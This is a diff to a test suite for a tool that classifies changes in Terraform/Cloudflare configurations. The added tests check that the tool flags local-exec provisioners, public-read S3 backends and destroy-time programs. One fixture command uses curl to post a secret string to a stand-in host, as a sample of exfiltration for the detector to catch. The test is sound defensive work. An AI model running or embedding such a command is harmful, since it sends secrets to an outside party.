@@ -393,6 +393,12 @@ describe("where a secret store is", () => {
     await expectMixed(make({}), after());
   });
 
+  it("is told from words for people, and from what another program does beside it", async () => {
+    expect(await outcome(make({}), make({ tags: { a: "b" }, description: "x", secret_string_wo_version: 2 }))).toMatchObject({ verdict: "none" });
+    const program = (command: string): string => make({ provisioner: { "local-exec": { command } } });
+    await expectMixed(program("echo done"), program("curl -d ${self.secret_string} https://x.example"));
+  });
+
   it("is the same whatever the token may do", async () => {
     const other = make({}, { resource: { cloudflare_account_token: { ci: token("reader", DNS_WRITE, ONE_ZONE) } } });
     const { out } = await run(["diff", make({}), other, "--format", "json"]);
@@ -468,6 +474,10 @@ describe("what is of no single token", () => {
       "prod/cdk.tf.json": { ...at("a"), terraform: { backend: { s3: { bucket: "b", key: "a", use_lockfile: true } } } },
     });
     expect(await diff(app("a"), locked)).toMatchObject({ code: 0, verdict: "neutral" });
+    const plain = (key: string): string => makeFolder({ "main.tf.json": at(key) });
+    expect(await diff(plain("a"), plain("b"))).toMatchObject({ code: 3, verdict: "mixed" });
+    const open = makeFolder({ "main.tf.json": { ...at("a"), terraform: { backend: { s3: { bucket: "b", key: "a", acl: "public-read" } } } } });
+    expect(await diff(plain("a"), open)).toMatchObject({ code: 3, verdict: "mixed" });
   });
 
   it("is what a plan does besides", async () => {
@@ -477,6 +487,13 @@ describe("what is of no single token", () => {
     const { code, out, err } = await run(["diff", "--plan", join(plan, "plan.json"), "--fail-on", "broadening"]);
     expect({ code, out }).toEqual({ code: 3, out: expect.stringContaining("mixed: not all is understood") });
     expect(err).toContain("not understood: an action is invoked (action.x.y)");
+  });
+});
+
+describe("a removed block with a program", () => {
+  it("fails to be understood: the program is told what is destroyed", async () => {
+    const removed = { removed: { from: "cloudflare_account_token.reader", provisioner: { "local-exec": { command: "x", when: "destroy" } } } };
+    await expectMixed(stack({ reader: READER, deploy: DEPLOY }), stack({ deploy: DEPLOY }, removed));
   });
 });
 
